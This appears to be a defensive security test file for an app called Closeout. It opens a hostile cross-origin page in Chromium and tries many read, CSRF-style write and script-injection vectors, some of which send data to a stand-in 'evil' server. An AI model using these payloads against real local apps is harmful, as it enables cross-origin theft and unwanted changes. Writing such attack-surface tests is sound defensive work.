/**
 * A page of another origin, open in the browser that Closeout's window is open in, and what it tries. A vector succeeds if it
 * read an answer of Closeout, or if a setting is another than before.
 */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { chromium, type Page } from '@playwright/test';
import { findBrowser } from '../tooling/machine.ts';
import type { Attacked } from './closeout.ts';

const CALL = '/api/app.settings.set';
const BODY = '{"theme":"dark"}';

/** In the page: `o` is Closeout's origin. Each answers the text that it could read, or an empty one. */
const READS: Record<string, string> = {
  'fetch of the page': `fetch(o + '/').then(r => r.text())`,
  'fetch without cors': `fetch(o + '/', { mode: 'no-cors' }).then(r => r.text())`,
  'fetch with credentials': `fetch(o + '/', { credentials: 'include' }).then(r => r.text())`,
  'fetch of the events': `fetch(o + '/events').then(r => r.text())`,
  EventSource: `new Promise((y, n) => { const e = new EventSource(o + '/events'); e.onopen = () => y('open'); e.onerror = n; })`,
  WebSocket: `new Promise((y, n) => { const s = new WebSocket(o.replace('http', 'ws') + '/events'); s.onopen = () => y('open'); s.onerror = n; })`,
  XMLHttpRequest: `new Promise((y, n) => { const x = new XMLHttpRequest(); x.open('GET', o + '/'); x.onload = () => y(x.responseText); x.onerror = n; x.send(); })`,
  frame: `new Promise((y) => { const f = document.body.appendChild(document.createElement('iframe')); f.onload = () => { try { y(f.contentDocument.body.innerText) } catch { y('') } }; f.src = o; })`,
  'frame in a sandbox': `new Promise((y) => { const f = document.body.appendChild(document.createElement('iframe')); f.sandbox = 'allow-scripts'; f.onload = () => { try { y(f.contentDocument?.body.innerText ?? '') } catch { y('') } }; f.src = o; })`,
  object: `new Promise((y) => { const f = document.createElement('object'); f.data = o; f.onload = () => { try { y(f.contentDocument?.body.innerText ?? '') } catch { y('') } }; f.onerror = () => y(''); document.body.append(f); setTimeout(() => y(''), 500); })`,
  embed: `new Promise((y) => { const f = document.createElement('embed'); f.src = o; document.body.append(f); setTimeout(() => y(''), 300); })`,
  'opened window': `(async () => { const w = open(o); await new Promise(r => setTimeout(r, 500)); try { return w.document.body.innerText } finally { w?.close() } })()`,
  'opened window, by message': `(async () => { const w = open(o); let text = ''; addEventListener('message', (e) => { text = String(e.data) }); await new Promise(r => setTimeout(r, 300)); w?.postMessage('closeout', '*'); await new Promise(r => setTimeout(r, 200)); w?.close(); return text })()`,
  'storage of the session': `Promise.resolve(sessionStorage.getItem('closeout-session') ?? '')`,
  'storage of the browser': `Promise.resolve(localStorage.getItem('closeout-session') ?? document.cookie)`,
  'style sheet': `new Promise((y) => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = o + '/'; l.onload = () => { try { y(l.sheet.cssRules[0]?.cssText ?? '') } catch { y('') } }; l.onerror = () => y(''); document.head.append(l); })`,
  module: `import(o + '/index.html').then(m => JSON.stringify(m))`,
  worker: `new Promise((y) => { try { const w = new Worker(o + '/index.html'); w.onmessage = (e) => y(String(e.data)); w.onerror = () => y(''); } catch { y('') } })`,
  'service worker': `navigator.serviceWorker.register(o + '/index.html').then(() => 'registered')`,
  'by its other name': `fetch(o.replace('127.0.0.1', 'localhost') + '/').then(r => r.text())`,
  'with a guessed key': `fetch(o + '/events', { headers: { 'x-closeout-session': 'guess' } }).then(r => r.text())`,
  'with a guessed token': `fetch(o + '/?token=guess').then(r => r.text())`,
};
const post = (init: string) =>
  `fetch(o + '${CALL}', { method: 'POST', body: '${BODY}', ${init} }).then(r => r.text())`;
const form = (type: string, path: string, method = 'POST') =>
  `new Promise((y) => { const i = document.createElement('iframe'); i.name = 'f' + Math.random(); document.body.append(i); const f = document.createElement('form'); f.target = i.name; f.method = '${method}'; f.enctype = '${type}'; f.action = o + '${path}'; const t = document.createElement('input'); t.name = '{"theme":"dark","x":"'; t.value = '"}'; f.append(t); document.body.append(f); f.submit(); setTimeout(() => y(''), 400); })`;
const WRITES: Record<string, string> = {
  'post of text': post(`headers: { 'content-type': 'text/plain' }`),
  'post of text, without cors': post(`mode: 'no-cors'`),
  'post of a form': post(`headers: { 'content-type': 'application/x-www-form-urlencoded' }, mode: 'no-cors'`),
  'post of JSON': post(`headers: { 'content-type': 'application/json' }`),
  'post of JSON, without cors': post(`headers: { 'content-type': 'application/json' }, mode: 'no-cors'`),
  'post of JSON with credentials': post(
    `headers: { 'content-type': 'application/json' }, credentials: 'include'`,
  ),
  'post that outlives the page': post(`keepalive: true, mode: 'no-cors'`),
  'post with a guessed key': post(
    `headers: { 'content-type': 'application/json', 'x-closeout-session': 'guess' }`,
  ),
  'post under another method': `fetch(o + '${CALL}', { method: 'PUT', body: '${BODY}' }).then(r => r.text())`,
  'post said by an override': post(`headers: { 'x-http-method-override': 'POST' }`),
  beacon: `Promise.resolve(navigator.sendBeacon(o + '${CALL}', '${BODY}') ? '' : '')`,
  'beacon of JSON': `Promise.resolve(navigator.sendBeacon(o + '${CALL}', new Blob(['${BODY}'], { type: 'application/json' })) ? '' : '')`,
  'form of text': form('text/plain', CALL),
  form: form('application/x-www-form-urlencoded', CALL),
  'form with files': form('multipart/form-data', CALL),
  'form that gets': form('application/x-www-form-urlencoded', CALL, 'GET'),
  'form with a guessed token': form('application/x-www-form-urlencoded', '/open'),
  'form that says that the window goes': form('text/plain', '/leaving'),
  image: `new Promise((y) => { const i = new Image(); i.onload = i.onerror = () => y(''); i.src = o + '${CALL}?theme=dark'; })`,
  script: `new Promise((y) => { const s = document.createElement('script'); s.onload = s.onerror = () => y(''); s.src = o + '${CALL}?theme=dark'; document.head.append(s); })`,
  prefetch: `new Promise((y) => { const l = document.createElement('link'); l.rel = 'prefetch'; l.href = o + '${CALL}'; document.head.append(l); setTimeout(() => y(''), 200); })`,
  'post in a frame of no origin': `new Promise((y) => { const f = document.createElement('iframe'); f.sandbox = 'allow-scripts allow-forms'; f.srcdoc = '<form method=post enctype="text/plain" action="' + o + '${CALL}"><input name=\\'${BODY}\\'></form><script>document.forms[0].submit()<\\/script>'; document.body.append(f); setTimeout(() => y(''), 500); })`,
};
export const VECTORS = Object.entries({ ...READS, ...WRITES });

/** What a page of Closeout itself would do with a string that ran: its policy refuses each. */
const INSIDE: Record<string, string> = {
  // Later, since what the debugger itself runs may make code of text.
  'code made of text': `setTimeout(() => { new Function('globalThis.evil = 1')() })`,
  'a timer of text': `setTimeout('globalThis.evil = 1')`,
  'inline script': `(() => { const s = document.createElement('script'); s.textContent = 'globalThis.evil = 1'; document.head.append(s); })()`,
  'handler in an attribute': `(() => { const d = document.createElement('div'); d.innerHTML = '<img src=x onerror="globalThis.evil=1">'; document.body.append(d); })()`,
  'script of elsewhere': `(() => { const s = document.createElement('script'); s.src = e + '/evil.js'; document.head.append(s); })()`,
  'script of data': `(() => { const s = document.createElement('script'); s.src = 'data:text/javascript,globalThis.evil=1'; document.head.append(s); })()`,
  'worker of data': `new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))).onmessage = () => { globalThis.evil = 1 }`,
  'frame of elsewhere': `(() => { const f = document.createElement('iframe'); f.src = e; document.body.append(f); })()`,
  'image of elsewhere': `(() => { new Image().src = e + '/key' })()`,
  'fetch of elsewhere': `fetch(e + '/key', { mode: 'no-cors' })`,
  'beacon to elsewhere': `navigator.sendBeacon(e + '/key', 'x')`,
  'socket to elsewhere': `(() => { new WebSocket(e.replace('http', 'ws')) })()`,
  'form to elsewhere': `(() => { const f = document.createElement('form'); f.action = e; f.target = '_blank'; document.body.append(f); f.submit(); })()`,
  'base of elsewhere': `(() => { const b = document.createElement('base'); b.href = e; document.head.append(b); if (document.baseURI.startsWith(e)) globalThis.evil = 1; })()`,
  'style element': `(() => { const s = document.createElement('style'); s.textContent = 'html { --evil: 1 }'; document.head.append(s); if (getComputedStyle(document.documentElement).getPropertyValue('--evil')) globalThis.evil = 1; })()`,
  'font of elsewhere': `(() => { const f = new FontFace('evil', 'url(' + e + '/font)'); f.load().catch(() => {}); })()`,
};

export type PageCounts = { vectors: number; succeeded: string[]; inside: number; insideSucceeded: string[] };

async function tryInside(page: Page, elsewhere: string, reached: () => number): Promise<string[]> {
  const succeeded: string[] = [];
  for (const [name, code] of Object.entries(INSIDE)) {
    const before = reached();
    await page.evaluate(`(() => { const e = ${JSON.stringify(elsewhere)}; try { ${code} } catch {} })()`);
    await page.waitForTimeout(150);
    const ran = await page.evaluate(() => (globalThis as { evil?: number }).evil === 1);
    if (ran || reached() > before) succeeded.push(name);
    await page.evaluate(() => void delete (globalThis as { evil?: number }).evil);
  }
  return succeeded;
}

export async function attackByPage(attacked: Attacked): Promise<PageCounts> {
  let reached = 0;
  const evil = createServer((request, response) => {
    if (request.url !== '/page') reached += 1;
    response.writeHead(200, { 'content-type': 'text/html' }).end('<!doctype html><body>evil');
  });
  await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
  const elsewhere = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;
  const executablePath = findBrowser();
  if (executablePath === null) throw new Error('no Chromium, Chrome or Edge is installed');
  const args = process.getuid?.() === 0 ? ['--no-sandbox'] : [];
  const browser = await chromium.launch({ executablePath, args });
  try {
    const context = await browser.newContext();
    const own = await context.newPage();
    await own.addInitScript((key) => sessionStorage.setItem('closeout-session', key), attacked.key);
    await own.goto(attacked.origin);
    await own.locator('main').first().waitFor();
    const page = await context.newPage();
    const succeeded: string[] = [];
    const theme = async () => (await attacked.call('app.settings.get', {})).value['theme'];
    const before = await theme();
    for (const [name, code] of VECTORS) {
      await page.goto(`${elsewhere}/page`);
      const read = await page.evaluate(
        `(async () => { const o = ${JSON.stringify(attacked.origin)}; const late = new Promise((y) => setTimeout(() => y(''), 3000)); try { return await Promise.race([${code}, late]) } catch { return '' } })()`,
      );
      if ((typeof read === 'string' && read !== '') || (await theme()) !== before) succeeded.push(name);
    }
    const insideSucceeded = await tryInside(own, elsewhere, () => reached);
    return { vectors: VECTORS.length, succeeded, inside: Object.keys(INSIDE).length, insideSucceeded };
  } finally {
    await browser.close();
    evil.closeAllConnections();
    evil.close();
  }
}
